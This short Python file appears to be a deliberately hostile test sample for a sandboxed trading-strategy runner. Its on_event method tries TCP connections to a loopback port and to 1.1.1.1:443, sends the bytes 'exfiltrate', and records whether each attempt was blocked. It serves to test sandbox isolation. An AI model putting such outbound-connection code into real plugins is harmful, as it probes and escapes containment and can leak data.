# ruff: noqa  -- deliberately hostile sample code for the sandbox tests
"""Open TCP connections to a listener on the host's loopback and to the internet."""
import socket


class Strategy:
    def on_event(self, event, state, portfolio):
        out = []
        for host, port in (("127.0.0.1", event["port"]), ("1.1.1.1", 443)):
            try:
                s = socket.create_connection((host, port), timeout=0.2)
                s.sendall(b"exfiltrate")
                out.append("connected")
            except BaseException as exc:
                out.append("blocked: " + type(exc).__name__)
        state["outcome"] = out
        return []
